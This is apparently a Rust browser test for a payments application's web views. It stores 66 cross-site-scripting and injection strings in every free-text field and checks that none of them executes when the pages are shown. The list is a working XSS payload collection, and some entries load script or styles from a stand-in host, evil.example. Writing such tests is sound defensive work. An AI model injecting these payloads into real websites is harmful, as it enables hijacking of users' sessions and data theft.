//! Strings that would run, if any view made markup, code or addresses of what people and machines
//! write.

use reqwest::Method;
use serde_json::{Value, json};

use super::Driver;
use super::accessibility::open_folded;
use super::devtools::Window;
use super::fixture::{Fixture, done};
use super::views::{ADMIN, TENANT, show_address, sign_in_page, views};
use crate::support::components::{component_of, good_rule};
use crate::support::people::PASSWORD;
use crate::support::service::{payment_with, send};

/// Each sets the global `ran`, or sends a request, where it is taken for more than text. Each
/// is at most 90 characters, so that it fits into every field.
const STRINGS: [&str; 66] = [
    "<script>ran.push(1)</script>",
    "</script><script>ran.push(2)</script>",
    "<SCRIPT SRC=https://evil.example/3.js></SCRIPT>",
    "<img src=x onerror=ran.push(4)>",
    "<img src=\"x\" onerror=\"ran.push(5)\">",
    "\"><img src=x onerror=ran.push(6)>",
    "'><img src=x onerror=ran.push(7)>",
    "`><img src=x onerror=ran.push(8)>",
    "--><img src=x onerror=ran.push(9)>",
    "]]><img src=x onerror=ran.push(10)>",
    "</textarea><img src=x onerror=ran.push(11)>",
    "</title><img src=x onerror=ran.push(12)>",
    "</style><img src=x onerror=ran.push(13)>",
    "</option></select><img src=x onerror=ran.push(14)>",
    "<svg onload=ran.push(15)>",
    "<svg/onload=ran.push(16)//",
    "<svg><script>ran.push(17)</script></svg>",
    "<svg><animate onbegin=ran.push(18) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:ran.push(19)\"><text y=9>x</text></a></svg>",
    "<math><mi xlink:href=\"javascript:ran.push(20)\">x</mi></math>",
    "<iframe srcdoc=\"<script>parent.ran.push(21)</script>\">",
    "<iframe src=javascript:parent.ran.push(22)>",
    "<object data=javascript:ran.push(23)>",
    "<embed src=javascript:ran.push(24)>",
    "<body onload=ran.push(25)>",
    "<input autofocus onfocus=ran.push(26)>",
    "<details open ontoggle=ran.push(27)>",
    "<video><source onerror=ran.push(28)></video>",
    "<marquee onstart=ran.push(29)>",
    "<form action=javascript:ran.push(30)><button>x</button></form>",
    "<a href=javascript:ran.push(31)>x</a>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/34.css>",
    "<style>@import 'https://evil.example/35.css';</style>",
    "<style>*{background:url(https://evil.example/36)}</style>",
    "<template><img src=x onerror=ran.push(37)></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=ran.push(38)>\">",
    "<x onclick=ran.push(39) style=position:fixed;inset:0>x",
    "javascript:ran.push(40)",
    "JaVaScRiPt:ran.push(41)",
    " javascript:ran.push(42)",
    "data:text/html,<script>opener.ran.push(43)</script>",
    "//evil.example/44",
    "\" onmouseover=\"ran.push(45)\" x=\"",
    "' onfocus='ran.push(46)' autofocus='",
    "\" style=\"background:url(https://evil.example/47)",
    "x;background:url(https://evil.example/48)",
    "expression(ran.push(49))",
    "{{constructor.constructor('ran.push(50)')()}}",
    "${ran.push(51)}",
    "#{ran.push(52)}",
    "<%= ran.push(53) %>",
    "');ran.push(54);//",
    "\\');ran.push(55);//",
    "\\u003cimg src=x onerror=ran.push(56)\\u003e",
    "&lt;img src=x onerror=ran.push(57)&gt;",
    "%3Cimg%20src=x%20onerror=ran.push(58)%3E",
    "__proto__",
    "constructor",
    "null",
    "undefined",
    "\u{202e}\u{2066}gnp.<img src=x onerror=ran.push(63)>",
    "\u{ff1c}img src=x onerror=ran.push(64)\u{ff1e}\u{feff}\u{200b}",
    "Z\u{351}\u{36b}\u{343}\u{36a}\u{302}\u{36b}A\u{327}\u{328}L\u{338}G\u{489}O \u{1f9ea}\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}",
    "WWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWW",
];

/// Counts what was stored, since the API refuses some strings in some fields.
#[derive(Default)]
struct Stored {
    fields: std::collections::BTreeMap<&'static str, usize>,
}

impl Stored {
    fn count(&mut self, field: &'static str, (status, body): (reqwest::StatusCode, Value)) -> Value {
        assert!(
            status.is_success() || [400, 409, 422].contains(&status.as_u16()),
            "{field}: {status} {body}"
        );
        *self.fields.entry(field).or_default() += usize::from(status.is_success());
        body
    }
}

/// Stores the strings in every field that takes free text. Returns the ids of the payments.
async fn store_everywhere(fixture: &Fixture) -> (Stored, Vec<String>) {
    let Fixture { client, ann, bob, .. } = fixture;
    let (mut stored, mut payments) = (Stored::default(), Vec::new());
    let off = done(ann.send(Method::PUT, "/settings/second-person", &json!({"needed": false})).await);
    done(
        bob.send(Method::POST, &format!("/proposals/{}/approve", off["id"].as_str().unwrap()), &json!({}))
            .await,
    );
    for (number, text) in STRINGS.iter().enumerate() {
        let user =
            json!({"email": format!("user{number}@example.com"), "display_name": text, "roles": ["auditor"]});
        stored.count("a person's name", client.post("/users", &user).await);
        let machine = json!({"name": text, "scopes": ["payments:read"]});
        stored.count("a client's name", client.post("/clients", &machine).await);
        let list = json!({"name": format!("list-{number}"), "kind": "text", "description": text});
        stored.count("a list's description", client.post("/lists", &list).await);
        let entry = json!({"value": text, "reason": text});
        stored.count("an entry", client.post("/lists/texts/entries", &entry).await);
        let key = format!("injected-{number}");
        let paid = stored.count("a payment", client.pay(&key, &payment_of(text)).await);
        let Some(id) = paid["id"].as_str().map(str::to_owned) else { continue };
        let event = json!({"kind": "fraud", "note": text});
        stored.count("an event's note", client.post(&format!("/payments/{id}/events"), &event).await);
        payments.push(id);
    }
    store_in_rules_and_tables(fixture, &mut stored).await;
    done(ann.send(Method::PUT, "/settings/second-person", &json!({"needed": true})).await);
    for text in STRINGS {
        let body = json!({"value": format!("{text}!"), "reason": text});
        let proposal =
            stored.count("a proposal", ann.send(Method::POST, "/lists/texts/entries", &body).await);
        let Some(id) = proposal["id"].as_str() else { continue };
        let decline =
            bob.send(Method::POST, &format!("/proposals/{id}/decline"), &json!({"note": text})).await;
        stored.count("a proposal's note", decline);
    }
    (stored, payments)
}

fn cut(text: &str, length: usize) -> String {
    text.chars().take(length).collect()
}

fn payment_of(text: &str) -> Value {
    payment_with(&json!({
        "reference": cut(text, 35), "remittance": text, "end_to_end_id": cut(text, 35),
        "customer": cut(text, 64), "merchant": cut(text, 64), "device": text,
        "debtor": {"name": text, "account": {"other": "account-1"},
                   "address": {"street_name": "x", "town_name": "y", "country": "DE", "department": cut(text, 70)}},
        "creditor": {"name": text}, "ultimate_debtor": {"name": text}, "ultimate_creditor": {"name": text},
        "metadata": {"basket": text}, "signals": {"device_score": text}
    }))
}

async fn store_in_rules_and_tables(fixture: &Fixture, stored: &mut Stored) {
    let client = &fixture.client;
    let check = client.plugin("account-check").await;
    let columns = json!([{"name": "cell", "kind": "text"}]);
    for (number, text) in STRINGS.iter().enumerate() {
        let rules = json!([{"name": "account-check", "plugin": check, "settings": {}}]);
        let revision = json!({"rules": rules, "note": text});
        stored.count("a revision's note", client.post("/rulesets/payment/revisions", &revision).await);
        let table = json!({"name": format!("table-{number}"), "kind": "text", "lookup": "exact", "columns": columns, "description": text});
        stored.count("a table's description", client.post("/tables", &table).await);
    }
    let rows: String =
        STRINGS.iter().map(|text| format!("{}\n", json!({"key": text, "cell": text}))).collect();
    for half in [rows.as_str(), rows.split_at(rows.find('\n').unwrap() + 1).1] {
        let upload = client
            .request(Method::POST, &format!("/tables/table-0/versions?{}", encoded("note", STRINGS[3])));
        let upload = upload.header("Content-Type", "application/x-ndjson").body(half.to_owned());
        stored.count("cells of a table", send(upload).await);
    }
    for summary in ["<img src=x>", "<svg/onload", "${ran=[1]};"] {
        client.upload(component_of(&good_rule(summary))).await;
    }
    // The name of a browser is shown beside its session.
    let credentials = json!({"tenant": TENANT, "email": ADMIN, "password": PASSWORD});
    let request = reqwest::Client::new().post(format!("{}/session", client.url)).json(&credentials);
    stored.count("a browser's name", send(request.header("User-Agent", STRINGS[3])).await);
}

fn encoded(name: &str, value: &str) -> String {
    let address = reqwest::Url::parse_with_params("http://localhost/", [(name, value)]).unwrap();
    address.query().unwrap().to_owned()
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_that_people_and_machines_write_runs_in_the_page() {
    let Some(driver) = Driver::start() else { return };
    let fixture = Fixture::new().await;
    done(fixture.ann.send(Method::POST, "/lists", &json!({"name": "texts", "kind": "text"})).await);
    let (stored, payments) = store_everywhere(&fixture).await;
    eprintln!("{} strings; stored of them: {:#?}", STRINGS.len(), stored.fields);
    let window = Window::open(&driver).await;
    sign_in_page(&window, &fixture.node, "settings/account", ADMIN).await;
    window.logged().await;
    let mut shown = 0;
    let mut visit = async |address: &str, shows: &str| {
        show_address(&window, address, shows).await;
        shown += 1;
        open_folded(&window).await;
        let more = "const more = [...document.querySelectorAll('main button')].find((one) => one.textContent === 'Show more');
            more?.click(); return Boolean(more)";
        window.run(more, vec![]).await;
        let happened = [window.happened().await, window.logged().await].concat();
        assert!(happened.is_empty(), "{address}: {happened:#?}");
    };
    for view in views(&fixture) {
        visit(&view.address, "").await;
    }
    for id in &payments {
        visit(&format!("decisions/{id}"), "").await;
    }
    for address in
        ["lists/texts", "tables/table-0", "rules/revisions/10", "rules/edit/10", "rules/compare/2/10"]
    {
        visit(address, "").await;
    }
    for text in STRINGS {
        visit(&format!("decisions?{}", encoded("reference", text)), "").await;
        visit(&format!("lists/{}", encoded("x", text).trim_start_matches("x=")), "").await;
    }
    eprintln!("{shown} views shown: nothing ran");
    assert!(
        payments.len() > STRINGS.len() / 2 && stored.fields.values().all(|count| *count > 0),
        "{:?}",
        stored.fields
    );
    window.browser.close().await.unwrap();
    fixture.node.stop().await;
}
